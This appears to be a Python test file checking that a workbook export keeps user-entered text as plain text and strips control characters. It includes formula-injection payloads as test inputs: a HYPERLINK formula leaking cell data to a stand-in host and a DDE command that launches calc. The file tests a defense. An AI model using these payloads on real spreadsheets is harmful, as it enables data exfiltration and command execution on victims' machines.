"""User text in an export is text (issue 17): a report typed as a formula is not a live formula in
/export, and a control character — stripped when stored, still in rows written before — does not
break the workbook."""

from __future__ import annotations

import datetime as dt
import io

import sqlalchemy as sa
from openpyxl import load_workbook

from core.clock import FixedClock
from core.imports import ImportService
from core.office.export import ExportService
from core.office.workbook import Column, Formula, Sheet, write_workbook
from db.database import Database
from db.enums import Role
from db.models import DailyReport, Person
from tests.support.factories import add_group, add_person
from tests.support.office import add_report, add_trip

D = dt.date
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def test_the_writer_keeps_user_text_as_text_and_drops_illegal_characters() -> None:
    sheet = Sheet(
        "表",
        [Column("文本", lambda r: r["text"]), Column("合计", lambda r: r.get("sum"))],
        [
            {"text": HYPERLINK},
            {"text": "=1+1"},
            {"text": "甲\x0b乙\x00丙\n丁"},
            {"text": "x", "sum": Formula("=1+2")},
        ],
    )
    book = load_workbook(io.BytesIO(write_workbook([sheet])))
    cells = [row[0] for row in book["表"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [HYPERLINK, "=1+1", "甲乙丙\n丁", "x"]
    assert all(c.data_type == "s" for c in cells)
    made = book["表"]["B5"]
    assert made.data_type == "f" and made.value == "=1+2"  # zsbot's own formula stays one


async def test_an_export_of_formula_and_control_character_input(db: Database, clock: FixedClock) -> None:
    group = await add_group(db, "第一工作组")
    csv = "姓名,手机,单位,工作组,角色\n=cmd|' /C calc'!A0,13800000009,县商务局,第一工作组,干部\n李\x0b四,,县商务局,,干部\n"
    report = await ImportService(db).people(csv.encode(), "people.csv")
    assert report.ok
    zhang = await add_person(db, "张三", [Role.CADRE], work_group=group)
    trip = await add_trip(db, zhang, D(2026, 11, 23), D(2026, 11, 27))
    await add_report(db, trip, zhang, D(2026, 11, 24), outcome=HYPERLINK)
    await add_report(db, trip, zhang, D(2026, 11, 25), outcome="谈成\x0b了")  # cleaned when stored
    async with db.transaction() as tx:
        stored = {p.name for p in (await tx.session.execute(sa.select(Person))).scalars()}
        assert "李四" in stored  # the control character is gone from the stored name
        outcomes = {r.outcome for r in (await tx.session.execute(sa.select(DailyReport))).scalars()}
        assert "谈成了" in outcomes
        # a row written before the cleaning (raw SQL, as an old database has it)
        await tx.session.execute(
            sa.update(DailyReport).where(DailyReport.outcome == "谈成了").values(outcome="旧\x0b数据")
        )

    exported = await ExportService(db, clock).workbook(None)
    book = load_workbook(io.BytesIO(exported.data))
    formulas = [
        c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert HYPERLINK in values and "=cmd|' /C calc'!A0" in values and "旧数据" in values
